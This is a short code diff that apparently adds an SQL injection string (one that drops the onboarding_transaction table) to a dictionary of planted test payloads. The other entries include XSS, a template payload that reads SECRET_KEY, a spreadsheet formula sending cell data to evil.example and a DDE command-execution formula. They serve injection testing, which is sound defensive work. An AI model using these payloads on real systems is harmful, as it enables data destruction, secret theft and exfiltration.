@@ -12,6 +12,7 @@ TEXTS = {
     "link": "javascript:alert(1)//planted-7001",
     "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/planted-7001">',
     "template": "{{ 7|add:4242 }}{% debug %}planted-7001{{ settings.SECRET_KEY }}",
+    "statement": "planted-7001'); DROP TABLE onboarding_transaction; --",
     "comment": "planted-7001 --><!-- ]]> </textarea></title></style>",
     "formula": '=HYPERLINK("https://evil.example/?"&A1,"planted-7001")',
     "formula after a plus": "+1+cmd|' /C calc'!A0 planted-7001",
